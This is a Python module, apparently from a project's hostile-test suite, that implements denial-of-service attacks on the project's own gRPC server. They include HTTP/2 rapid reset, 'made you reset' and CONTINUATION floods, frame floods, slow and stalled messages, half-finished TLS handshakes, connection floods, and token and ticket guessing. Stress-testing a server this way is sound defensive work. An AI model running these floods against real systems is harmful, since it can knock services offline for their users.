"""Volume attacks: what one attacker can do to a server with many connections at once.

Each attack is a coroutine that is one connection for as long as that lasts; `storm` runs as many of them as
it is told, and begins again whenever one ends.
"""

import asyncio
import contextlib
import functools
import hashlib
import itertools
import os
import random
import secrets
import socket
import ssl
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from tests.hostile.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from tests.hostile.wire import Closed, Mark, Wire, block, literal

from varangian.protos import metadata_keys, ps_pb2
from varangian.protos.data_channel.connection import TICKET
from varangian.protos.layout import DIGEST_BYTES
from varangian.protos.messages import MANIFEST_LIMIT, MESSAGE_LIMIT, PROTOCOL
from varangian.protos.payloads.chunks import encode_chunk as chunk
from varangian.protos.payloads.encoding import FLOAT32, WIRE, payload_digest

STREAMS = 16
"""Calls at a time on each connection: as many as the server allows."""
PAUSE = 0.05
"""Seconds before a connection that has ended is made again."""
BURST = 500
"""Frames in one write of a flood."""


class Count(Counter):
    """What an attack has done, by name."""


Attack = Callable[[Mark, Count], Awaitable[None]]


@dataclass(frozen=True)
class Storm:
    """An attack and who can make it."""

    attack: Attack
    about: str
    per: int = 1
    """How many of them for each connection that was asked for."""
    stranger: bool = True
    """Whether it makes sense without a certificate or a token of the run."""
    tls: bool | None = None
    """Whether it needs TLS, or clear text."""
    lane: bool = False
    """Whether it needs a data port."""
    joins: bool = False
    """Whether a worker joins first: then its session is that of all calls, and it counts as being there."""
    outside: bool = False
    """Whether it needs no call: over TLS a stranger gets no further."""


STORMS: dict[str, Storm] = {}
ALONE = ("nothing", "silent_member", "everything")
"""What would not be an attack among others."""


def storms(about, **options):
    """Add an attack to the list."""

    def add(attack):
        STORMS[attack.__name__] = Storm(attack, about, **options)
        return attack

    return add


async def storm(name, mark, connections, count):
    """Attack with so many connections until cancelled, and count what is done."""
    found = STORMS[name]
    if mark.name is not None and found.joins:
        with contextlib.suppress(OSError):
            await join(mark, Count())
    await asyncio.gather(*(_again(found.attack, mark, count) for _ in range(connections * found.per)))


async def _again(attack, mark, count):
    while True:
        try:
            await attack(mark, count)
            count["lives"] += 1
        except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
            # `TimeoutError` of a connection that is not made; the storm ends by being cancelled.
            count["cut off" if isinstance(error, Closed) else type(error).__name__] += 1
        await asyncio.sleep(PAUSE)


async def join(mark, count):
    """Join with the right layout, if need be after others have left."""
    request = ps_pb2.JoinRequest(protocol=PROTOCOL, layout=mark.layout, common=mark.common)
    async with Wire.to(mark, heads=True) as wire:
        for _ in range(20):
            stream = await wire.unary("Join", request.SerializeToString(), mark.identity())
            if stream.headers.get("grpc-status") == "0":
                return
            count[stream.headers.get(metadata_keys.CODE, "no code")] += 1
            await asyncio.sleep(0.3)


async def round_of(wire):
    """The round that is open."""
    stream = await wire.unary("Status", b"")
    return ps_pb2.StatusReply.FromString(stream.body).round


async def calls(mark, count, method, message, identity=None, streams=STREAMS):
    """Call as fast as it is answered, on many streams of one connection."""

    async def one(wire):
        while True:
            metadata = identity() if identity else mark.identity()
            await wire.unary(method, message() if callable(message) else message, metadata)
            count[method] += 1

    async with Wire.to(mark) as wire:
        await _all(*(one(wire) for _ in range(streams)))


async def _within(seconds, waiting):
    """What comes of it, or None after so many seconds. `asyncio.wait_for` may lose a cancellation."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            return await waiting
    return None


async def _all(*calls):
    """Run them until one of them fails, and raise what it did."""
    tasks = [asyncio.ensure_future(call) for call in calls]
    try:
        done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_EXCEPTION)
        for task in done:
            task.result()
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


# calls


@storms("nothing at all: what the measurement itself costs")
async def nothing(mark, count):
    count["nothing"] = 1
    await asyncio.sleep(3600)


@storms("joins and stays, and sends nothing", stranger=False, joins=True)
async def silent_member(mark, count):
    async with Wire.to(mark) as wire:
        stream = wire.open("Attend", mark.identity())
        await wire.message(stream, ps_pb2.AttendRequest(run_id=mark.run).SerializeToString(), end=True)
        count["Attend"] += 1
        await wire.closed


@storms("Status, 16 at a time", outside=True)
async def status_storm(mark, count):
    await calls(mark, count, "Status", b"")


@storms("Join with a layout of 1 MiB, 16 at a time")
async def join_storm(mark, count):
    text = _long_layout(mark)
    await calls(mark, count, "Join", text)


@functools.lru_cache
def _long_layout(mark):
    """As long as a layout may be, and right up to its last line."""
    text, more = mark.layout, (f"1 a{i}\n" for i in itertools.count())
    parts, room = [text], (1 << 20) - len(text.encode())
    while (room := room - len(line := next(more))) >= 0:
        parts.append(line)
    request = ps_pb2.JoinRequest(protocol=PROTOCOL, layout="".join(parts))
    return request.SerializeToString()


@storms("Join with `common` of 1 MiB, 16 at a time")
async def common_storm(mark, count):
    lines = "\n".join(f'["x{i}", "y"]' for i in range(60_000))[: 1 << 20]
    request = ps_pb2.JoinRequest(protocol=PROTOCOL, layout=mark.layout, common=lines)
    await calls(mark, count, "Join", request.SerializeToString())


@storms("Pull of the same model, 16 at a time", stranger=False, joins=True)
async def pull_storm(mark, count):
    await calls(mark, count, "Pull", ps_pb2.PullRequest(run_id=mark.run, after=-1).SerializeToString())


@storms("Pull for a round that is far away, 16 at a time", stranger=False, joins=True)
async def parked_pulls(mark, count):
    await calls(mark, count, "Pull", ps_pb2.PullRequest(run_id=mark.run, after=2**62).SerializeToString())


@storms("Attend, 16 at a time", joins=True)
async def attend_storm(mark, count):
    await calls(mark, count, "Attend", ps_pb2.AttendRequest(run_id=mark.run).SerializeToString())


@storms("Decline with a reason of 64 KB, 16 at a time", joins=True)
async def decline_storm(mark, count):
    reason = "x" * (MANIFEST_LIMIT - 100)

    def message():
        request = ps_pb2.DeclineRequest(run_id=mark.run, round=random.randrange(100), reason=reason)
        return request.SerializeToString()

    await calls(mark, count, "Decline", message)


@storms("calls to methods that do not exist, 16 at a time")
async def unknown_methods(mark, count):
    await calls(mark, count, "Nothing", b"")


@storms("calls for other workers with tokens that are guessed", tls=False)
async def token_guessing(mark, count):
    def guess():
        name = random.choice(mark.others)
        token = (metadata_keys.TOKEN, secrets.token_hex(32))
        return ((metadata_keys.WORKER, name), token, (metadata_keys.SESSION, secrets.token_hex(16)))

    await calls(mark, count, "Pull", ps_pb2.PullRequest(run_id=mark.run).SerializeToString(), guess)


@storms("Join under the attacker's name from another session on each connection", stranger=False)
async def session_fight(mark, count):
    request = ps_pb2.JoinRequest(protocol=PROTOCOL, layout=mark.layout, common=mark.common)
    data, session = request.SerializeToString(), secrets.token_hex(16)
    attend = ps_pb2.AttendRequest(run_id=mark.run).SerializeToString()
    async with Wire.to(mark, heads=True) as wire:
        while True:
            joined = await wire.unary("Join", data, mark.identity(session))
            count[joined.headers.get(metadata_keys.CODE, "joined")] += 1
            if joined.headers.get("grpc-status") == "0":
                stays = wire.open("Attend", mark.identity(session))
                await wire.message(stays, attend, end=True)
                await _within(1, stays.ended.wait())
                return


# messages that do not end


async def _half(mark, count, method):
    """Calls whose message lacks its last byte: the server has all the rest of it, and waits."""
    length = MESSAGE_LIMIT
    body = bytes(length - 1)

    async def one(wire):
        while True:
            stream = wire.open(method, mark.identity())
            await wire.message(stream, body, length=length)
            count[f"half {method}"] += 1
            await stream.ended.wait()
            wire._check()

    async with Wire.to(mark) as wire:
        await _all(*(one(wire) for _ in range(STREAMS)))


for _method in ("Status", "Join", "Pull", "PullInline", "Push", "Attend", "Decline"):
    STORMS[f"half_{_method.lower()}"] = Storm(
        functools.partial(_half, method=_method),
        f"{_method} with the largest message that gRPC takes, but for its last byte",
        joins=_method not in ("Status", "Join"),
    )


@storms("messages of 8 KiB a second on each of 16 streams, of all methods", joins=True)
async def dripping(mark, count):
    async def one(wire, method):
        while True:
            stream = wire.open(method, mark.identity())
            await wire.send(stream, struct.pack(">BI", 0, MESSAGE_LIMIT))
            while not stream.over and await wire.send(stream, bytes(8 << 10)):
                count["pieces"] += 1
                await asyncio.sleep(1)
            wire._check()

    methods = itertools.cycle(("Status", "Join", "Pull", "PullInline", "Push", "Attend", "Decline"))
    async with Wire.to(mark) as wire:
        await _all(*(one(wire, next(methods)) for _ in range(STREAMS)))


@storms("headers of all methods, and never a message", joins=True)
async def headers_only(mark, count):
    async def one(wire, method):
        while True:
            stream = wire.open(method, mark.identity())
            count[method] += 1
            await stream.ended.wait()
            wire._check()

    methods = itertools.cycle(("Status", "Join", "Pull", "PullInline", "Push", "Attend", "Decline"))
    async with Wire.to(mark) as wire:
        await _all(*(one(wire, next(methods)) for _ in range(STREAMS)))


@storms("messages that promise more than any may have")
async def oversized(mark, count):
    async def one(wire):
        while True:
            stream = wire.open("Join", mark.identity())
            await wire.send(stream, struct.pack(">BI", 0, 0xFFFFFFFF) + bytes(1000))
            count["Join"] += 1
            await stream.ended.wait()
            wire._check()

    async with Wire.to(mark) as wire:
        await _all(*(one(wire) for _ in range(STREAMS)))


# HTTP/2


@storms("rapid reset (CVE-2023-44487): calls that are taken back at once")
async def rapid_reset(mark, count):
    async with Wire.to(mark) as wire:
        number, ends = 1, (8).to_bytes(4, "big")
        call = block("Status", mark.identity())
        while True:
            burst = b""
            for _ in range(BURST):
                burst += frame(HEADERS, END_HEADERS, number, call) + frame(RST_STREAM, 0, number, ends)
                number += 2
            await wire.raw(burst)
            count["resets"] += BURST
            await asyncio.sleep(0)


@storms("made you reset (CVE-2025-8671): calls that the server has to take back")
async def made_you_reset(mark, count):
    async with Wire.to(mark) as wire:
        number, call = 1, block("Status", mark.identity())
        while True:
            burst = b""
            for _ in range(BURST):
                burst += frame(HEADERS, END_HEADERS, number, call)
                burst += frame(DATA, 1, number, bytes(5)) + frame(WINDOW_UPDATE, 0, number, bytes(4))
                number += 2
            await wire.raw(burst)
            count["resets"] += BURST
            await asyncio.sleep(0)


@storms("calls that are complete, and taken back before the answer")
async def hanging_up(mark, count):
    async with Wire.to(mark) as wire:
        while True:
            for _ in range(STREAMS):
                stream = wire.open("Status", mark.identity())
                await wire.message(stream, b"", end=True)
                wire.reset(stream)
                count["hung up"] += 1
            await asyncio.sleep(0)


async def _flood(mark, count, one):
    async with Wire.to(mark) as wire:
        while True:
            await wire.raw(one * BURST)
            count["frames"] += BURST
            await asyncio.sleep(0)


@storms("PING, as fast as it goes")
async def ping_flood(mark, count):
    await _flood(mark, count, frame(PING, 0, 0, bytes(8)))


@storms("SETTINGS that change what all streams may do")
async def settings_flood(mark, count):
    await _flood(
        mark, count, b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (0, 65_535))
    )


@storms("WINDOW_UPDATE of one byte")
async def window_flood(mark, count):
    await _flood(mark, count, frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))


@storms("PRIORITY of streams that do not exist")
async def priority_flood(mark, count):
    await _flood(mark, count, frame(PRIORITY, 0, 99, (1).to_bytes(4, "big") + b"\1"))


@storms("DATA without a byte, on a call that stays open")
async def empty_data(mark, count):
    async with Wire.to(mark) as wire:
        stream = wire.open("Status", mark.identity())
        while not stream.over:
            await wire.raw(frame(DATA, 0, stream.number) * BURST)
            count["frames"] += BURST
            await asyncio.sleep(0)


@storms("CONTINUATION: headers that never end (CVE-2024-27316)")
async def continuation_flood(mark, count):
    async with Wire.to(mark) as wire:
        await wire.raw(frame(HEADERS, 0, 1, block("Status")))
        piece = frame(CONTINUATION, 0, 1, literal("a", "b" * 16_000))
        while True:
            await wire.raw(piece)
            count["frames"] += 1
            await asyncio.sleep(0)


@storms("headers of 15 KB with each call, and of 60 KB")
async def huge_metadata(mark, count):
    small = tuple((f"x-{i}", "y" * 50) for i in range(150))
    large = tuple((f"x-{i}", "y" * 15_000) for i in range(4))
    # One header does not fit into a frame: the rest of them follows in CONTINUATION.
    async with Wire.to(mark) as wire:

        async def one(more):
            while True:
                fields, number = block("Status", (*mark.identity(), *more)), wire._next
                stream = wire.open("Status") if len(fields) < 16_000 else None
                if stream is None:
                    wire._next += 2
                    await wire.raw(frame(HEADERS, 0, number, fields[:16_000]))
                    for at in range(16_000, len(fields), 16_000):
                        last = END_HEADERS if at + 16_000 >= len(fields) else 0
                        await wire.raw(frame(CONTINUATION, last, number, fields[at : at + 16_000]))
                    await asyncio.sleep(0.01)
                else:
                    wire.reset(stream)
                    await wire.unary("Status", b"", (*mark.identity(), *more))
                count["calls"] += 1

        await _all(one(small), one(small), one(large))


@storms("answers that nobody takes: windows of zero bytes", joins=True)
async def zero_window(mark, count):
    pull = ps_pb2.PullRequest(run_id=mark.run, after=-1).SerializeToString()

    async def one(wire, method, message):
        while True:
            stream = wire.open(method, mark.identity())
            await wire.message(stream, message, end=True)
            count[method] += 1
            await stream.ended.wait()
            wire._check()

    async with Wire.to(mark, reads=False) as wire:
        kinds = itertools.cycle((("Status", b""), ("Pull", pull)))
        await _all(*(one(wire, *next(kinds)) for _ in range(STREAMS)))


@storms("connections that take nothing from the system, with calls and pings")
async def deaf(mark, count):
    async with Wire.to(mark) as wire:
        await asyncio.sleep(0.1)
        wire.pause_reading()
        for _ in range(STREAMS):
            await wire.message(wire.open("Status", mark.identity()), b"", end=True)
        while True:
            await _within(1, wire.raw(frame(PING, 0, 0, bytes(8)) * 100))
            count["pings"] += 100
            await asyncio.sleep(0.1)


# TCP and TLS


async def _mute(host, port, count, first=b"", drip=b""):
    """A connection that says `first`, then a byte of `drip` a second, then nothing until it is closed."""
    async with asyncio.timeout(30):
        reader, writer = await asyncio.open_connection(host, port)
    count["connections"] += 1
    try:
        writer.write(first)
        for i in range(len(drip)):
            writer.write(drip[i : i + 1])
            if await _within(1, reader.read(1)) == b"":
                raise Closed
        while await reader.read(1 << 16):
            pass
        raise Closed
    finally:
        writer.transport.abort()


def _hello(mark):
    """The first message of a TLS handshake."""
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        mark.tls.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    return sent.read()


@storms("thousands of connections that say nothing", per=100, outside=True)
async def silent_connections(mark, count):
    await _mute(mark.host, mark.port, count)


@storms("thousands of connections to the data port that say nothing", per=100, lane=True, outside=True)
async def silent_lines(mark, count):
    await _mute(mark.host, mark.data_port, count)


@storms("TLS handshakes that are begun and never finished", per=25, tls=True, outside=True)
async def begun_handshakes(mark, count):
    await _mute(mark.host, mark.port, count, _hello(mark))


@storms("the first message of TLS, a byte a second", per=25, tls=True, outside=True)
async def slow_hello(mark, count):
    await _mute(mark.host, mark.port, count, drip=_hello(mark))


@storms("connections that are complete, TLS and settings, and call nothing", per=8, outside=True)
async def idle_connections(mark, count):
    async with Wire.to(mark) as wire:
        count["connections"] += 1
        await wire.closed
        raise Closed


@storms("connect, shake hands, hang up", outside=True)
async def reconnecting(mark, count):
    async with Wire.to(mark):
        count["connections"] += 1


@storms("connect and reset, without a word", per=2, outside=True)
async def connect_flood(mark, count):
    loop = asyncio.get_running_loop()
    for port in itertools.cycle({mark.port, mark.data_port or mark.port}):
        with socket.socket() as line:
            line.setblocking(False)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            await loop.sock_connect(line, (mark.host, port))
            count["connections"] += 1


@storms("noise in place of a protocol, on both ports", outside=True)
async def noise(mark, count):
    for port in {mark.port, mark.data_port or mark.port}:
        await _mute(mark.host, port, count, os.urandom(1 << 16))


# the data port


@storms("tickets that are guessed", lane=True, outside=True)
async def wrong_tickets(mark, count):
    while True:
        with contextlib.suppress(Closed):
            await _mute(mark.host, mark.data_port, count, os.urandom(TICKET))


async def _offered(mark, wire, method, count):
    """A call whose payload may go beside it: its stream, and its ticket; None when it was refused."""
    stream = wire.open(method, (*mark.identity(), (metadata_keys.DATA_CHANNEL, "1")))
    if method == "Push":
        await wire.message(stream, _manifest(mark, await round_of(wire)))
    else:
        request = ps_pb2.PullRequest(run_id=mark.run, after=-1)
        await wire.message(stream, request.SerializeToString(), end=True)
    await stream.answered.wait()
    wire._check()
    ready = stream.headers.get(metadata_keys.READY)
    count[stream.headers.get(metadata_keys.CODE, "tickets" if ready else "again")] += 1
    return stream, bytes.fromhex(ready)[:TICKET] if ready and len(ready) > 1 else None


def _manifest(mark, round, digest=b""):
    manifest = ps_pb2.Manifest(
        protocol=PROTOCOL,
        run_id=mark.run,
        round=round,
        layout_digest=hashlib.blake2b(mark.layout.encode(), digest_size=DIGEST_BYTES).digest(),
        dtype=WIRE[FLOAT32],
        numel=mark.size // 4,
        content_digest=digest,
    )
    return ps_pb2.PushRequest(manifest=manifest).SerializeToString()


async def _with_tickets(mark, count, method, use):
    async with Wire.to(mark, heads=True) as wire:
        while True:
            stream, ticket = await _offered(mark, wire, method, count)
            if ticket is not None:
                await use(ticket)
                await stream.ended.wait()


@storms("right tickets, shown, and then nothing", stranger=False, joins=True, lane=True)
async def shown_tickets(mark, count):
    async def use(ticket):
        with contextlib.suppress(Closed):
            await _mute(mark.host, mark.data_port, count, ticket)

    await _with_tickets(mark, count, "Push", use)


@storms("right tickets that are never shown", stranger=False, joins=True, lane=True)
async def kept_tickets(mark, count):
    async def use(ticket):
        pass

    await _with_tickets(mark, count, "Push", use)


@storms("a model that is taken in a byte a second", stranger=False, joins=True, lane=True)
async def slow_pull(mark, count):
    async def use(ticket):
        loop = asyncio.get_running_loop()
        with socket.socket() as line:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            line.setblocking(False)
            await loop.sock_connect(line, (mark.host, mark.data_port))
            await loop.sock_sendall(line, ticket)
            while await loop.sock_recv(line, 1):
                count["bytes"] += 1
                await asyncio.sleep(1)

    await _with_tickets(mark, count, "Pull", use)


@storms("one ticket shown on 64 connections at once", stranger=False, joins=True, lane=True)
async def ticket_race(mark, count):
    async def show(ticket):
        with contextlib.suppress(OSError):
            await _mute(mark.host, mark.data_port, count, ticket + bytes(100))

    async def use(ticket):
        await asyncio.gather(*(show(ticket) for _ in range(64)))

    await _with_tickets(mark, count, "Push", use)


# uploads


@storms("Push that stops behind its manifest, 16 at a time", stranger=False, joins=True)
async def stalled_pushes(mark, count):
    async def one(wire):
        while True:
            stream = wire.open("Push", mark.identity())
            await wire.message(stream, _manifest(mark, await round_of(wire)))
            await stream.answered.wait()
            wire._check()
            ready = metadata_keys.READY in stream.headers
            count["begun" if ready else stream.headers.get(metadata_keys.CODE, "refused")] += 1
            if ready:
                await wire.message(stream, chunk(0, bytes(4)))
            await stream.ended.wait()

    async with Wire.to(mark, heads=True) as wire:
        await _all(*(one(wire) for _ in range(STREAMS)))


@storms("a complete push of one round, again and again", stranger=False, joins=True)
async def replays(mark, count):
    payload = bytes(mark.size)
    digest, end = payload_digest(payload), (1 << 20)
    chunks = [chunk(at, payload[at : at + end]) for at in range(0, len(payload), end)]

    async def one(wire):
        while True:
            manifest = _manifest(mark, await round_of(wire), digest)
            for _ in range(20):
                stream = wire.open("Push", mark.identity())
                for message in (manifest, *chunks[:-1]):
                    await wire.message(stream, message)
                await wire.message(stream, chunks[-1], end=True)
                await stream.ended.wait()
                wire._check()
                counted = stream.headers.get("grpc-status") == "0"
                count["counted" if counted else stream.headers.get(metadata_keys.CODE, "refused")] += 1

    async with Wire.to(mark, heads=True) as wire:
        await _all(*(one(wire) for _ in range(STREAMS)))


@storms("everything together, another attack on each connection", joins=True, outside=True)
async def everything(mark, count):
    names = [name for name in possible(mark, bool(mark.data_port)) if name not in ALONE]
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(1 + 3 * random.random()):
            await STORMS[random.choice(names)].attack(mark, count)


def possible(mark, lane=True):
    """The names of those that this attacker can make."""
    return [
        name
        for name, found in STORMS.items()
        if (mark.name is not None or (found.stranger and (found.outside or mark.certs is None)))
        and found.tls in (None, mark.certs is not None)
        and (lane or not found.lane)
    ]
